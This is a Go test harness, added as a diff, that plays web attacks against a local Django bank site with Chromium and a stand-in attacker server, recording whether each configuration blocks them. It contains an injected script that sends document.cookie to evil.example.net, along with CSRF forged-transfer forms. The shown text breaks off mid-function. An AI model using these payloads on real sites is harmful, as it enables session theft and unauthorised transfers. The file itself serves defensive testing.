@@ -1,0 +1,1196 @@
+package sim
+
+import (
+	"bufio"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/json"
+	"encoding/pem"
+	"errors"
+	"flag"
+	"fmt"
+	"html"
+	"io"
+	"log"
+	"math"
+	"math/big"
+	mrand "math/rand/v2"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/network"
+	"github.com/chromedp/cdproto/page"
+	"github.com/chromedp/cdproto/storage"
+	"github.com/chromedp/chromedp"
+)
+
+// ---- the stack: a live Django, an attacker's web server, a Chromium ----
+
+// liveDjango is testdata/django/live.py: the bank site served for real on
+// one port (plain HTTP and HTTPS), driven by JSON commands on stdin.
+type liveDjango struct {
+	cmd  *exec.Cmd
+	in   io.WriteCloser
+	out  *bufio.Reader
+	port string
+	mu   sync.Mutex
+}
+
+// liveEntry is one request the site served, as live.py logs it.
+type liveEntry struct {
+	At         int      `json:"at"`
+	Scheme     string   `json:"scheme"`
+	Method     string   `json:"method"`
+	Path       string   `json:"path"`
+	Query      string   `json:"query"`
+	Cookie     string   `json:"cookie"`
+	Origin     string   `json:"origin"`
+	Referer    string   `json:"referer"`
+	Status     int      `json:"status"`
+	User       string   `json:"user"`
+	Did        string   `json:"did"`
+	SetCookies []string `json:"set_cookies"`
+}
+
+func (e liveEntry) String() string {
+	s := fmt.Sprintf("t+%ds %s %s://%s%s", e.At, e.Method, e.Scheme, SiteHost, e.Path)
+	if e.Query != "" {
+		s += "?" + e.Query
+	}
+	if e.Cookie != "" {
+		s += " Cookie: " + e.Cookie
+	}
+	if e.Origin != "" {
+		s += " Origin: " + e.Origin
+	}
+	s += " -> " + strconv.Itoa(e.Status)
+	if e.Did != "" {
+		s += " " + e.Did
+	}
+	if e.User != "" {
+		s += " as " + e.User
+	}
+	for _, c := range e.SetCookies {
+		s += "\n\t\tSet-Cookie: " + strings.TrimSpace(c)
+	}
+	return s
+}
+
+func startLiveDjango(t *testing.T, cert, key string) *liveDjango {
+	t.Helper()
+	cmd := exec.Command(conformancePython, "live.py", cert, key)
+	cmd.Dir = filepath.Join("testdata", "django")
+	cmd.Env = append(os.Environ(), "PYTHONDONTWRITEBYTECODE=1")
+	cmd.Stderr = os.Stderr
+	in, err := cmd.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	outp, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	d := &liveDjango{cmd: cmd, in: in, out: bufio.NewReader(outp)}
+	t.Cleanup(func() {
+		in.Close()
+		done := make(chan struct{})
+		go func() { cmd.Wait(); close(done) }()
+		select {
+		case <-done:
+		case <-time.After(5 * time.Second):
+			cmd.Process.Kill()
+			<-done
+		}
+	})
+	line, err := d.out.ReadString('\n')
+	if err != nil || !strings.HasPrefix(line, "ready ") {
+		t.Fatalf("live.py did not start: %q %v", line, err)
+	}
+	d.port = strings.TrimSpace(strings.TrimPrefix(line, "ready "))
+	return d
+}
+
+// call sends one command and decodes its answer into out (when not nil).
+func (d *liveDjango) call(t *testing.T, c map[string]any, out any) {
+	t.Helper()
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	b, _ := json.Marshal(c)
+	if _, err := d.in.Write(append(b, '\n')); err != nil {
+		t.Fatalf("live.py %v: %v", c["cmd"], err)
+	}
+	line, err := d.out.ReadString('\n')
+	if err != nil {
+		t.Fatalf("live.py %v: %v", c["cmd"], err)
+	}
+	var ok struct {
+		OK    bool   `json:"ok"`
+		Error string `json:"error"`
+	}
+	if err := json.Unmarshal([]byte(line), &ok); err != nil || !ok.OK {
+		t.Fatalf("live.py %v: %s %v", c["cmd"], line, err)
+	}
+	if out != nil {
+		if err := json.Unmarshal([]byte(line), out); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// attackerSite is the attacker's web server for evil.example.net and
+// blog.example.com, on one port for both schemes (the first byte of a
+// connection tells TLS from plain HTTP): each case installs its handler and
+// reads what arrived. Against a plain-HTTP site evil.example.net serves
+// plain HTTP only (World.attackerPage), so it refuses TLS for that name and
+// Chromium's HTTPS-Upgrades falls back to http://.
+type attackerSite struct {
+	srv     *http.Server
+	port    string
+	mu      sync.Mutex
+	handler func(w http.ResponseWriter, r *http.Request) // the case's; nil serves pages only
+	seen    []string                                     // "host path?query Cookie: ..." of every request
+	noTLS   bool                                         // evil.example.net refuses TLS
+}
+
+func newAttackerSite(t *testing.T, cert tls.Certificate) *attackerSite {
+	a := &attackerSite{}
+	a.srv = &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		a.mu.Lock()
+		a.seen = append(a.seen, r.Host+" "+r.URL.RequestURI()+" Cookie: "+strings.Join(r.Header.Values("Cookie"), "; "))
+		h := a.handler
+		a.mu.Unlock()
+		w.Header().Set("Cache-Control", "no-store")
+		w.Header().Set("Content-Type", "text/html")
+		if h != nil {
+			h(w, r)
+			return
+		}
+		w.Write([]byte("<!doctype html><title>" + html.EscapeString(r.Host) + "</title><body></body>"))
+	})}
+	cfg := &tls.Config{Certificates: []tls.Certificate{cert}, GetConfigForClient: func(h *tls.ClientHelloInfo) (*tls.Config, error) {
+		a.mu.Lock()
+		defer a.mu.Unlock()
+		if a.noTLS && h.ServerName == AttackerHost {
+			return nil, errors.New(AttackerHost + " serves plain HTTP only")
+		}
+		return nil, nil
+	}}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, a.port, _ = net.SplitHostPort(l.Addr().String())
+	go a.srv.Serve(newSniffListener(l, cfg))
+	t.Cleanup(func() { a.srv.Close() })
+	return a
+}
+
+// sniffListener hands out a TLS server connection when a connection starts
+// with a TLS handshake record, the plain connection otherwise.
+type sniffListener struct {
+	net.Listener
+	conns chan net.Conn
+	done  chan struct{}
+	once  sync.Once
+}
+
+func newSniffListener(l net.Listener, cfg *tls.Config) *sniffListener {
+	s := &sniffListener{Listener: l, conns: make(chan net.Conn), done: make(chan struct{})}
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				s.Close()
+				return
+			}
+			go func() {
+				br := bufio.NewReader(c)
+				c.SetReadDeadline(time.Now().Add(20 * time.Second))
+				b, err := br.Peek(1)
+				c.SetReadDeadline(time.Time{})
+				if err != nil {
+					c.Close()
+					return
+				}
+				var conn net.Conn = &peekedConn{Conn: c, r: br}
+				if b[0] == 0x16 {
+					conn = tls.Server(conn, cfg)
+				}
+				select {
+				case s.conns <- conn:
+				case <-s.done:
+					c.Close()
+				}
+			}()
+		}
+	}()
+	return s
+}
+
+func (s *sniffListener) Accept() (net.Conn, error) {
+	select {
+	case c := <-s.conns:
+		return c, nil
+	case <-s.done:
+		return nil, net.ErrClosed
+	}
+}
+
+func (s *sniffListener) Close() error {
+	s.once.Do(func() { close(s.done) })
+	return s.Listener.Close()
+}
+
+type peekedConn struct {
+	net.Conn
+	r *bufio.Reader
+}
+
+func (c *peekedConn) Read(p []byte) (int, error) { return c.r.Read(p) }
+
+func (a *attackerSite) reset(h func(w http.ResponseWriter, r *http.Request)) {
+	a.mu.Lock()
+	a.handler, a.seen = h, nil
+	a.mu.Unlock()
+}
+
+func (a *attackerSite) requests() []string {
+	a.mu.Lock()
+	defer a.mu.Unlock()
+	return append([]string(nil), a.seen...)
+}
+
+// realCert is a self-signed certificate for the world's three hosts.
+func realCert(t *testing.T, dir string) (tls.Certificate, string, string) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1),
+		Subject:      pkix.Name{CommonName: SiteHost},
+		DNSNames:     []string{SiteHost, SiblingHost, AttackerHost, "*.example.com"},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().Add(24 * time.Hour),
+		KeyUsage:     x509.KeyUsageDigitalSignature,
+		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	kb, err := x509.MarshalECPrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	keyPEM := pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kb})
+	cf, kf := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
+	if err := os.WriteFile(cf, certPEM, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(kf, keyPEM, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	c, err := tls.X509KeyPair(certPEM, keyPEM)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return c, cf, kf
+}
+
+// realStack is the whole world: Django, the attacker's server, Chromium.
+type realStack struct {
+	django *liveDjango
+	atk    *attackerSite
+	alloc  context.Context // Chromium, one browser for every case
+	raw    *http.Client    // the attacker's command-line client
+}
+
+func newRealStack(t *testing.T) *realStack {
+	t.Helper()
+	dir := t.TempDir()
+	cert, cf, kf := realCert(t, dir)
+	s := &realStack{django: startLiveDjango(t, cf, kf), atk: newAttackerSite(t, cert)}
+	atkPort := s.atk.port
+	// bank.example.com on both schemes goes to live.py's one port, the
+	// attacker's hosts to their HTTPS server: URLs carry no port, so
+	// Origin, Referer and Host are what the model sees.
+	rules := "MAP " + SiteHost + " 127.0.0.1:" + s.django.port +
+		", MAP " + AttackerHost + " 127.0.0.1:" + atkPort +
+		", MAP " + SiblingHost + " 127.0.0.1:" + atkPort +
+		", MAP * ~NOTFOUND"
+	opts := append(chromedp.DefaultExecAllocatorOptions[:],
+		chromedp.ExecPath(chromiumPath),
+		chromedp.UserDataDir(filepath.Join(dir, "profile")),
+		chromedp.NoSandbox,
+		chromedp.Flag("disable-gpu", true),
+		chromedp.Flag("disable-component-update", true),
+		chromedp.Flag("host-resolver-rules", rules),
+		chromedp.Flag("ignore-certificate-errors", true),
+	)
+	ctx, cancel := context.WithCancel(context.Background())
+	t.Cleanup(cancel)
+	actx, acancel := chromedp.NewExecAllocator(ctx, opts...)
+	t.Cleanup(acancel)
+	bctx, bcancel := chromedp.NewContext(actx)
+	t.Cleanup(bcancel)
+	if err := chromedp.Do(bctx); err != nil { // start the browser
+		t.Fatalf("starting Chromium: %v", err)
+	}
+	s.alloc = bctx
+	s.raw = &http.Client{
+		Transport: &http.Transport{
+			DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
+				return (&net.Dialer{}).DialContext(ctx, network, "127.0.0.1:"+s.django.port)
+			},
+			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
+			DisableKeepAlives: true,
+		},
+		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
+		Timeout:       10 * time.Second,
+	}
+	return s
+}
+
+// ---- one case: a Config played on the stack ----
+
+// realRun is one scenario played on the real stack under one Config.
+type realRun struct {
+	t     *testing.T
+	s     *realStack
+	cfg   Config
+	ctx   context.Context // the victim's tab, in a browser context of its own
+	trace []string
+	now   int // virtual seconds since Epoch
+
+	seen map[string]cookieSeen // cookie identity -> when first seen
+}
+
+// cookieSeen is when the harness first saw a cookie in the browser: the
+// virtual time, and the real time just before the action that set it.
+type cookieSeen struct {
+	virt int
+	real time.Time
+}
+
+func (s *realStack) newRun(t *testing.T, cfg Config, timeout time.Duration) (*realRun, func()) {
+	settings := make(map[string]string, len(Fields))
+	for _, f := range Fields {
+		settings[f.Key] = f.Get(&cfg)
+	}
+	fields := map[string]string{}
+	for _, u := range fixtureUsers {
+		fields[u.name] = u.password
+	}
+	s.django.call(t, map[string]any{"cmd": "config", "settings": settings, "secret_key": SecretKey, "password_fields": fields}, nil)
+	if !cfg.HTTPS {
+		// A plain-HTTP deployment has no certificate: nothing answers TLS.
+		s.django.call(t, map[string]any{"cmd": "inject", "block_tls": true}, nil)
+	}
+	s.atk.reset(nil)
+	s.atk.mu.Lock()
+	s.atk.noTLS = !cfg.HTTPS
+	s.atk.mu.Unlock()
+	tctx, tcancel := context.WithTimeout(s.alloc, timeout)
+	ctx, cancel := chromedp.NewContext(tctx, chromedp.WithNewBrowserContext())
+	r := &realRun{t: t, s: s, cfg: cfg, ctx: ctx, seen: map[string]cookieSeen{}}
+	return r, func() { cancel(); tcancel() }
+}
+
+func (r *realRun) logf(format string, args ...any) {
+	r.trace = append(r.trace, fmt.Sprintf(format, args...))
+}
+
+func (r *realRun) fatal(err error) {
+	r.t.Helper()
+	r.t.Fatalf("%v\nreal trace so far:\n\t%s", err, strings.Join(r.trace, "\n\t"))
+}
+
+// serverLog fetches the requests the site served since the last call and
+// adds them to the trace.
+func (r *realRun) serverLog() []liveEntry {
+	var out struct{ Log []liveEntry }
+	r.s.django.call(r.t, map[string]any{"cmd": "log"}, &out)
+	for _, e := range out.Log {
+		r.logf("  server: %s", e)
+	}
+	return out.Log
+}
+
+// siteURL is a page of the site, on the scheme of the deployment.
+func (r *realRun) siteURL(path string) string {
+	scheme := "http"
+	if r.cfg.HTTPS {
+		scheme = "https"
+	}
+	return scheme + "://" + SiteHost + path
+}
+
+// advance moves the virtual clock of Django and of the victim's cookies:
+// Chromium's own clock does not move, so a persistent cookie whose expiry,
+// counted on the virtual clock, has passed is deleted from the browser, as
+// the browser would have dropped it (RFC 6265bis §5.7; Chromium
+// CanonicalCookie::IsExpired: expired when now >= expiry). A cookie's
+// lifetime is its Expires less the real time just before the action that
+// set it, in whole seconds: its Max-Age (the actions take well under a
+// second).
+func (r *realRun) advance(secs int) {
+	if secs == 0 {
+		return
+	}
+	r.noteCookies(time.Now())
+	r.s.django.call(r.t, map[string]any{"cmd": "advance", "seconds": secs}, nil)
+	r.now += secs
+	r.logf("the clock moves %ds (t+%ds)", secs, r.now)
+	for _, c := range r.cookies() {
+		if c.Session || c.Expires <= 0 {
+			continue
+		}
+		seen := r.seen[cookieID(c)]
+		life := int(math.Floor(c.Expires - float64(seen.real.UnixNano())/1e9))
+		if life-(r.now-seen.virt) <= 0 {
+			r.logf("  browser: %s=%s (Domain %s, Max-Age %d) expired on the virtual clock", c.Name, short(c.Value), c.Domain, life)
+			if _, err := chromedp.Call(r.ctx, network.DeleteCookies, network.DeleteCookiesParams{Name: c.Name, Domain: c.Domain, Path: c.Path}); err != nil {
+				r.fatal(err)
+			}
+		}
+	}
+}
+
+func cookieID(c *network.Cookie) string {
+	return c.Name + "\x00" + c.Domain + "\x00" + c.Path + "\x00" + c.Value + "\x00" + strconv.FormatFloat(c.Expires, 'f', 3, 64)
+}
+
+// noteCookies records when each new cookie appeared: now on the virtual
+// clock, and before, the real time before the action that set it.
+func (r *realRun) noteCookies(before time.Time) {
+	for _, c := range r.cookies() {
+		if _, ok := r.seen[cookieID(c)]; !ok {
+			r.seen[cookieID(c)] = cookieSeen{r.now, before}
+		}
+	}
+}
+
+// cookies is every cookie of the victim's browser context.
+func (r *realRun) cookies() []*network.Cookie {
+	res, err := chromedp.CallBrowser(r.ctx, storage.GetCookies, storage.GetCookiesParams{BrowserContextID: chromedp.FromContext(r.ctx).BrowserContextID})
+	if err != nil {
+		r.fatal(err)
+	}
+	return res.Cookies
+}
+
+// sessionCookie is the value of the session cookie the browser would send
+// to the site's home page (the last of several, as Django reads them).
+func (r *realRun) sessionCookie() string {
+	res, err := chromedp.Call(r.ctx, network.GetCookies, network.GetCookiesParams{URLs: []string{r.siteURL("/")}})
+	if err != nil {
+		r.fatal(err)
+	}
+	v := ""
+	for _, c := range res.Cookies {
+		if c.Name == r.cfg.SessionCookieName {
+			v = c.Value
+		}
+	}
+	return v
+}
+
+// open is the victim typing a URL.
+func (r *realRun) open(u string) {
+	before := time.Now()
+	r.logf("victim opens %s", u)
+	if err := chromedp.Do(r.ctx, chromedp.Navigate(u)); err != nil {
+		r.logf("  browser: %v", err)
+	}
+	r.noteCookies(before)
+}
+
+// navigateBy runs js in the current page and waits for the navigation it
+// starts to load.
+func (r *realRun) navigateBy(js string) {
+	before := time.Now()
+	if _, err := chromedp.Run(r.ctx, chromedp.WaitEvent(page.LoadEventFired, nil, chromedp.Evaluate[chromedp.Void](js))); err != nil {
+		r.logf("  browser: %v", err)
+	}
+	r.noteCookies(before)
+}
+
+// follow clicks a link to u on the current page.
+func (r *realRun) follow(u string) {
+	r.logf("victim clicks a link to %s", u)
+	r.navigateBy(`{const a = document.createElement("a"); a.href = ` + strconv.Quote(u) + `; document.body.append(a); a.click()}`)
+}
+
+// submit fills the named form of the current page and submits it.
+func (r *realRun) submit(form string, fields map[string]string) {
+	r.logf("victim submits the %s form %v", form, fields)
+	js := `{const f = document.forms[` + strconv.Quote(form) + `];`
+	for k, v := range fields {
+		js += `f.elements[` + strconv.Quote(k) + `].value = ` + strconv.Quote(v) + `;`
+	}
+	r.navigateBy(js + `f.submit()}`)
+}
+
+// fromPage loads a page of the attacker's host with the given body and
+// runs js there (the page's own script, which starts a navigation).
+func (r *realRun) fromPage(pageURL, js string) {
+	r.open(pageURL)
+	r.logf("the page at %s runs %s", pageURL, js)
+	r.navigateBy(js)
+}
+
+// autoPost is a page's hidden form, auto-submitted to u.
+func autoPost(u string, form map[string]string) string {
+	js := `{const f = document.createElement("form"); f.method = "POST"; f.action = ` + strconv.Quote(u) + `;`
+	for k, v := range form {
+		js += `{const i = document.createElement("input"); i.name = ` + strconv.Quote(k) + `; i.value = ` + strconv.Quote(v) + `; f.append(i)}`
+	}
+	return js + `document.body.append(f); f.submit()}`
+}
+
+// logIn is the model's logIn: the victim opens the login page and submits
+// alice's credentials; it reports whether the page it lands on is alice's.
+func (r *realRun) logIn() bool {
+	r.open(r.siteURL("/login/"))
+	r.submit("login", map[string]string{"username": victimName, "password": passwordOf(victimName)})
+	log := r.serverLog()
+	return len(log) > 0 && log[len(log)-1].User == victimName
+}
+
+// rawResponse is what the attacker's client got.
+type rawResponse struct {
+	Status     int
+	User       string
+	Token      string
+	SetCookies []string
+}
+
+// attacker sends a request from the attacker's own machine.
+func (r *realRun) attacker(method, path, cookie string, form url.Values) rawResponse {
+	var body io.Reader
+	if form != nil {
+		body = strings.NewReader(form.Encode())
+	}
+	req, err := http.NewRequest(method, r.siteURL(path), body)
+	if err != nil {
+		r.fatal(err)
+	}
+	if cookie != "" {
+		req.Header.Set("Cookie", cookie)
+	}
+	if method == "POST" {
+		// A command-line client writes whatever headers pass the checks.
+		o := r.siteURL("")
+		req.Header.Set("Origin", o)
+		req.Header.Set("Referer", o+path)
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	resp, err := r.s.raw.Do(req)
+	if err != nil {
+		r.logf("attacker %s %s: %v", method, path, err)
+		return rawResponse{}
+	}
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	out := rawResponse{Status: resp.StatusCode, User: resp.Header.Get("X-Sim-User"), Token: resp.Header.Get("X-Sim-CSRF"), SetCookies: resp.Header.Values("Set-Cookie")}
+	r.logf("attacker %s %s Cookie: %s -> %d as %q", method, path, cookie, out.Status, out.User)
+	r.serverLog()
+	return out
+}
+
+// replay is the attacker using a copied session cookie value.
+func (r *realRun) replay(value string) string {
+	return r.attacker("GET", "/account/", r.cfg.SessionCookieName+"="+value, nil).User
+}
+
+// inject sets what the attacker adds to the site's responses.
+func (r *realRun) inject(c map[string]any) {
+	c["cmd"] = "inject"
+	if !r.cfg.HTTPS {
+		c["block_tls"] = true
+	}
+	r.s.django.call(r.t, c, nil)
+}
+
+// did reports whether the site served a transfer (to anyone) among log.
+func did(log []liveEntry, what string) bool {
+	for _, e := range log {
+		if e.Did == what {
+			return true
+		}
+	}
+	return false
+}
+
+// eval evaluates js in the victim's page (DevTools' evaluation, which no
+// Content-Security-Policy restricts), awaiting a promise.
+func evalIn[T any](r *realRun, js string) T {
+	v, err := chromedp.Run(r.ctx, chromedp.Evaluate[T](js, chromedp.EvalAwaitPromise))
+	if err != nil {
+		r.logf("  eval %s: %v", js, err)
+	}
+	return v
+}
+
+// ---- the scenarios, as each sim script tells them ----
+
+// realScenario plays one catalogue scenario on the real stack. skip names
+// what the stack cannot play faithfully for a Config ("" when it can).
+type realScenario struct {
+	id   string
+	skip func(cfg Config) string
+	play func(r *realRun) Outcome
+}
+
+const siblingPost = "https://" + SiblingHost + "/post/1"
+
+// evilPage is the attacker's page, on the site's scheme (World.attackerPage).
+func evilPage(cfg Config) string {
+	if cfg.HTTPS {
+		return "https://" + AttackerHost + "/"
+	}
+	return "http://" + AttackerHost + "/"
+}
+
+var realScenarios = []realScenario{
+	{id: "xss-cookie-theft", play: playXSSCookieTheft},
+	{id: "xss-session-riding", play: playXSSSessionRiding},
+	{id: "csrf-cross-site-post", skip: skipCrossSitePost, play: playCSRFCrossSitePost},
+	{id: "csrf-cross-site-get", play: playCSRFCrossSiteGet},
+	{id: "csrf-sibling-post", skip: skipSiblingPost, play: playCSRFSiblingPost},
+	{id: "login-csrf", skip: skipLoginCSRF, play: playLoginCSRF},
+	{id: "replay-after-logout", play: playReplayAfterLogout},
+	{id: "subdomain-cookie-leak", play: playSubdomainCookieLeak},
+	{id: "password-change-eviction", play: playPasswordChangeEviction},
+	{id: "idle-walkaway", play: playIdleWalkaway},
+	{id: "stolen-cookie-kept-alive", skip: skipKeptAlive, play: playKeptAlive},
+}
+
+// realSkip is what no scenario here can play faithfully.
+func realSkip(cfg Config) string {
+	switch {
+	case cfg.Browser != Chromium:
+		return "the real browser is Chromium"
+	case cfg.HSTSPreloaded && !cfg.HTTPS:
+		return "the preload list cannot be given to Chromium for example.com"
+	}
+	// Every POST the victim's browser makes to the site from its own pages
+	// carries the site's Origin and its full Referer (Referrer-Policy
+	// same-origin, or same-origin under the default policy).
+	origin := "http://" + SiteHost
+	if cfg.HTTPS {
+		origin = "https://" + SiteHost
+	}
+	if why := csrfVersionsDiffer(cfg, origin, origin+"/login/"); why != "" {
+		return why
+	}
+	return ""
+}
+
+// csrfVersionsDiffer says why Django 3.2 and 5.2 would judge a POST to the
+// site with this Origin and Referer differently ("" when they agree): 5.2
+// checks Origin whenever it is sent (csrf.py process_view: 'if
+// "HTTP_ORIGIN" in request.META: if not self._origin_verified(request)'),
+// 3.2 never reads it and checks the Referer on HTTPS only (3.2 csrf.py
+// process_view: "if request.is_secure(): referer = ..."). The verdicts are
+// django_random_test.go's csrfOriginVerdicts.
+func csrfVersionsDiffer(cfg Config, origin, referer string) string {
+	scheme := "http"
+	if cfg.HTTPS {
+		scheme = "https"
+	}
+	v52, v32 := csrfOriginVerdicts(&cfg, &confStep{Method: "POST", Scheme: scheme, Origin: origin, Referer: referer})
+	if v52 != v32 {
+		return fmt.Sprintf("Django 3.2 and 5.2 judge a POST with Origin %s and Referer %q differently (5.2 %v, 3.2 %v)", origin, referer, v52, v32)
+	}
+	return ""
+}
+
+// crossReferer is the Referer Chromium sends from page to the site under
+// the default policy, strict-origin-when-cross-origin: the origin, or
+// nothing from https to http.
+func crossReferer(cfg Config, page string) string {
+	if !cfg.HTTPS {
+		return ""
+	}
+	return page
+}
+
+func skipCrossSitePost(cfg Config) string {
+	if cfg.SessionCookieSameSite == "" && cfg.CrossSitePostAfterSecs >= 120 {
+		// kLaxAllowUnsafeMaxAge counts on Chromium's own clock, which the
+		// harness does not move: the cookie would be seconds old.
+		return "Lax-allowing-unsafe's two minutes run on Chromium's real clock"
+	}
+	return csrfVersionsDiffer(cfg, strings.TrimSuffix(evilPage(cfg), "/"), evilPage(cfg))
+}
+
+func skipLoginCSRF(cfg Config) string {
+	return csrfVersionsDiffer(cfg, strings.TrimSuffix(evilPage(cfg), "/"), evilPage(cfg))
+}
+
+func skipSiblingPost(cfg Config) string {
+	if !cfg.HTTPS {
+		// The sibling's page is https:// (World.siblingCSRFToken), and
+		// Chromium holds its form to an http:// site behind the "Form is
+		// not secure" warning, where the model withholds the cookie
+		// (schemeful same-site): both block, for different reasons, and
+		// an unset SameSite's two minutes would run on the real clock.
+		return "the sibling's https:// page posting to a plain-HTTP site meets Chromium's insecure-form warning"
+	}
+	return csrfVersionsDiffer(cfg, "https://"+SiblingHost, crossReferer(cfg, "https://"+SiblingHost+"/"))
+}
+
+// keptAliveHorizon is the model's horizon for stolen-cookie-kept-alive: three
+// of the session's lifetimes as its engine counts them, a day at least.
+func keptAliveHorizon(cfg Config) (horizon, every int) {
+	age := cfg.SessionCookieAge
+	if cfg.SetExpiry > 0 {
+		switch cfg.SessionEngine {
+		case EngineSigned: // signed_cookies ignores set_expiry
+		case EngineFile:
+			age = 0 // file.py never expires an integer set_expiry
+		default:
+			age = cfg.SetExpiry
+		}
+	}
+	every = cfg.ReplayEveryMinutes * 60
+	horizon = max(3*age+every, 24*3600)
+	return horizon, every
+}
+
+func skipKeptAlive(cfg Config) string {
+	if h, e := keptAliveHorizon(cfg); h/e > 300 {
+		return fmt.Sprintf("%d replays (one every %ds for %ds) are more than this check makes", h/e, e, h)
+	}
+	return ""
+}
+
+func playXSSCookieTheft(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	r.advance(60)
+	r.inject(map[string]any{"script": `<script>window.__ran = 1; window.__sent = fetch("` + evilPage(r.cfg) +
+		`collect?c=" + encodeURIComponent(document.cookie), {mode: "no-cors"}).then(() => 1, () => 0)</script>`})
+	r.follow(r.siteURL("/account/"))
+	r.inject(map[string]any{})
+	r.serverLog()
+	if !evalIn[bool](r, `window.__ran === 1`) {
+		r.logf("the injected script did not run")
+		return Blocked
+	}
+	evalIn[int](r, `window.__sent`)
+	stolen := ""
+	for _, q := range r.s.atk.requests() {
+		if _, rest, ok := strings.Cut(q, "/collect?"); ok {
+			v, _ := url.ParseQuery(strings.SplitN(rest, " ", 2)[0])
+			r.logf("the attacker received document.cookie = %q", v.Get("c"))
+			stolen = cookieValue(v.Get("c"), r.cfg.SessionCookieName)
+		}
+	}
+	if stolen == "" {
+		return Blocked
+	}
+	r.advance(60)
+	if r.replay(stolen) == victimName {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playXSSSessionRiding(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	r.advance(60)
+	r.inject(map[string]any{"script": `<script>window.__ran = 1; window.__done = (async () => {
+const page = await fetch("/login/");
+const token = page.headers.get("X-Sim-CSRF") || "";
+await fetch("/transfer/", {method: "POST", redirect: "manual",
+  body: new URLSearchParams({to: "` + attackerName + `", amount: "1000", csrfmiddlewaretoken: token})});
+return 1})().catch(() => 0)</script>`})
+	r.follow(r.siteURL("/account/"))
+	r.inject(map[string]any{})
+	if !evalIn[bool](r, `window.__ran === 1`) {
+		r.logf("the injected script did not run")
+		r.serverLog()
+		return Blocked
+	}
+	evalIn[int](r, `window.__done`)
+	if did(r.serverLog(), "transfer") {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playCSRFCrossSitePost(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	r.advance(r.cfg.CrossSitePostAfterSecs)
+	r.fromPage(evilPage(r.cfg), autoPost(r.siteURL("/transfer/"), map[string]string{"to": attackerName, "amount": "1000"}))
+	if did(r.serverLog(), "transfer") {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playCSRFCrossSiteGet(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	r.advance(600)
+	r.fromPage(evilPage(r.cfg), `{const a = document.createElement("a"); a.href = `+strconv.Quote(r.siteURL("/transfer/?to="+attackerName+"&amount=1000"))+`; document.body.append(a); a.click()}`)
+	if did(r.serverLog(), "transfer") {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playCSRFSiblingPost(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	if !r.cfg.AttackerSubdomain {
+		return Blocked
+	}
+	r.advance(600)
+	name := r.cfg.CSRFCookieName
+	var mu sync.Mutex
+	token := ""
+	r.s.atk.reset(func(w http.ResponseWriter, req *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		if v := cookieValue(strings.Join(req.Header.Values("Cookie"), "; "), name); v != "" {
+			token = v // the victim's own, sent to every subdomain
+		} else {
+			line := name + "=" + tossedSecret + "; Domain=" + ParentDomain[1:] + "; Path=/"
+			if r.cfg.HTTPS {
+				line += "; Secure"
+			}
+			w.Header().Add("Set-Cookie", line)
+			token = tossedSecret
+		}
+		w.Write([]byte("<!doctype html><title>post</title><body></body>"))
+	})
+	r.open(siblingPost)
+	mu.Lock()
+	tok := token
+	mu.Unlock()
+	r.logf("the sibling's page holds the token %s", short(tok))
+	r.navigateBy(autoPost(r.siteURL("/transfer/"), map[string]string{"to": attackerName, "amount": "1000", csrfFormField: tok}))
+	if did(r.serverLog(), "transfer") {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playLoginCSRF(r *realRun) Outcome {
+	r.fromPage(evilPage(r.cfg), autoPost(r.siteURL("/login/"), map[string]string{"username": attackerName, "password": passwordOf(attackerName)}))
+	r.serverLog()
+	r.advance(60)
+	r.open(r.siteURL("/account/"))
+	log := r.serverLog()
+	if len(log) > 0 && log[len(log)-1].User == attackerName {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playReplayAfterLogout(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	r.advance(300)
+	stolen := r.sessionCookie()
